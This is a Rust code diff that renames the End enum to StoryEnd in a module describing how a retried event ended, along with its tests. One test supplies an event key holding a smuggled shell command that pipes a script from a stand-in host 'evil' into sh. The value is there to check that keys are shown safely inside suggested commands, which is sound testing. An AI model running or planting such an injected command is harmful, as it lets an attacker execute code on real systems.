@@ -10,7 +10,7 @@ use crate::text;
 use crate::text::{Text, Tone, quoted};
 use crate::trace::Trace;
 use crate::trace::logs::Report;
-use crate::trace::story::{End, Happened, Step};
+use crate::trace::story::{Happened, Step, StoryEnd};
 
 impl Trace {
     /// The last sentence: how the event ended, or what it is waiting for.
@@ -19,14 +19,14 @@ impl Trace {
             return text;
         }
         match &self.story.end {
-            End::Waits(WaitsFor::Due { due, .. }) if *due > self.now => {
+            StoryEnd::Waits(WaitsFor::Due { due, .. }) if *due > self.now => {
                 text!["Waiting. The next retry is due in ", self.until(*due), "."]
             }
-            End::Waits(WaitsFor::Due { due, .. }) => self.overdue("The", *due),
-            End::Waits(WaitsFor::Resume) => text!["Its function is paused. ", self.who_paused()],
-            End::Waits(WaitsFor::NextTry { .. }) => "It is kept; the handler will try again.".into(),
-            End::DeadLettered => self.dead_lettered(),
-            End::Invoked { request_id, at } => {
+            StoryEnd::Waits(WaitsFor::Due { due, .. }) => self.overdue("The", *due),
+            StoryEnd::Waits(WaitsFor::Resume) => text!["Its function is paused. ", self.who_paused()],
+            StoryEnd::Waits(WaitsFor::NextTry { .. }) => "It is kept; the handler will try again.".into(),
+            StoryEnd::DeadLettered => self.dead_lettered(),
+            StoryEnd::Invoked { request_id, at } => {
                 let report = self.invocation(request_id.as_deref()).map(|invocation| &invocation.report);
                 self.after_retry(*at, report)
             }
@@ -58,13 +58,13 @@ impl Trace {
     /// other event.
     fn by_pauses(&self) -> Option<Text> {
         let end = &self.story.end;
-        let due = if let End::Waits(WaitsFor::Due { due, .. }) = end { Some(*due) } else { None };
+        let due = if let StoryEnd::Waits(WaitsFor::Due { due, .. }) = end { Some(*due) } else { None };
         match self.pause? {
             pause @ InForce::Paused { until } if pause.holds(due) => {
                 let until = until.map(|until| text![" until ", until]).unwrap_or_default();
                 Some(text!["Its function is paused", until, ". ", self.who_paused()])
             }
-            InForce::NotPaused { back_by } if *end == End::Waits(WaitsFor::Resume) => {
+            InForce::NotPaused { back_by } if *end == StoryEnd::Waits(WaitsFor::Resume) => {
                 let back_by = back_by.unwrap_or_else(|| self.now.saturating_add(HOLD));
                 let resumed = "Its function was resumed";
                 if back_by >= self.now {
@@ -83,7 +83,7 @@ impl Trace {
         let dead_lettered =
             "Its function is not on the allow-list, so the event will be dead-lettered (target_not_allowed)";
         let fate = match (self.not_allowed?, &self.story.end) {
-            (Unlisted::DeadLettered, End::Waits(WaitsFor::Due { due, .. })) if *due > self.now => {
+            (Unlisted::DeadLettered, StoryEnd::Waits(WaitsFor::Due { due, .. })) if *due > self.now => {
                 format!("{dead_lettered} within {}.", self.until(*due))
             }
             (Unlisted::DeadLettered, _) => format!("{dead_lettered} when the handler next receives it."),
@@ -155,7 +155,7 @@ mod tests {
         for (key, shown) in
             [("x; curl evil|sh #", "x; curl evil|sh #"), ("a\0`b`$c", "a\\u{0}`b`$c"), ("-k'", "-k'")]
         {
-            let mut trace = trace(&[], End::DeadLettered, Vec::new());
+            let mut trace = trace(&[], StoryEnd::DeadLettered, Vec::new());
             trace.story.key = key.into();
             let text = ending(trace, 64);
             let (_, command) = text.split_once("To see whether it is still there: `").unwrap();
@@ -175,7 +175,7 @@ mod tests {
             let trace = Trace { pause: Some(pause), ..trace(&[(0, holds())], end, vec![]) };
             ending(trace, 10)
         };
-        let (held, kept) = (End::Waits(WaitsFor::Resume), kept());
+        let (held, kept) = (StoryEnd::Waits(WaitsFor::Resume), kept());
         let paused = |until: Option<u64>| InForce::Paused { until: until.map(at) };
         let not_paused = |back_by: Option<u64>| InForce::NotPaused { back_by: back_by.map(at) };
         let listed = "`comeback pause --list --stack shop` shows who paused it, and why.";
@@ -192,8 +192,8 @@ mod tests {
         assert!(last(held, not_paused(Some(5))).starts_with(late));
     }
 
-    fn kept() -> End {
-        End::Waits(WaitsFor::NextTry { cause: comeback_engine::Cause::Refused, at: None })
+    fn kept() -> StoryEnd {
+        StoryEnd::Waits(WaitsFor::NextTry { cause: comeback_engine::Cause::Refused, at: None })
     }
 
     #[test]
@@ -204,7 +204,7 @@ mod tests {
             (trace.not_allowed, trace.pause) = (unlisted, Some(InForce::Paused { until: None }));
             ending(trace, 10)
         };
-        let held = End::Waits(WaitsFor::Resume);
+        let held = StoryEnd::Waits(WaitsFor::Resume);
         let not_allowed =
             "Its function is not on the allow-list, so the event will be dead-lettered (target_not_allowed)";
         let attach = "To retry it: `comeback attach orders --stack shop` (if the function moved to another \
@@ -233,13 +233,13 @@ mod tests {
             ),
             (
                 holds(),
-                End::Waits(WaitsFor::Resume),
+                StoryEnd::Waits(WaitsFor::Resume),
                 "Its function is paused. `comeback pause --list --stack shop` shows who paused it, and why.",
             ),
             (holds(), kept(), "It is kept; the handler will try again."),
             (
                 dead_letters(),
-                End::DeadLettered,
+                StoryEnd::DeadLettered,
                 "Dead-lettered at 2026-09-14T15:33:20.000Z. To see whether it is still there: `comeback dead \
                  show k-1 --stack shop`",
             ),
@@ -268,10 +268,10 @@ mod tests {
             ),
         ] {
             let invocation = Invocation { request_id: "r-1".into(), report, lines: Vec::new() };
-            let end = End::Invoked { request_id: Some("r-1".into()), at: at(0) };
+            let end = StoryEnd::Invoked { request_id: Some("r-1".into()), at: at(0) };
             assert_eq!(ending(trace(&[(0, invoked())], end, vec![invocation]), 10), expected);
         }
-        let end = End::Invoked { request_id: None, at: at(0) };
+        let end = StoryEnd::Invoked { request_id: None, at: at(0) };
         assert_eq!(
             ending(trace(&[(0, invoked())], end, vec![]), 10),
             "Retry 1 was invoked 10s ago, and no failure followed. The invocation's request id is unknown, so \
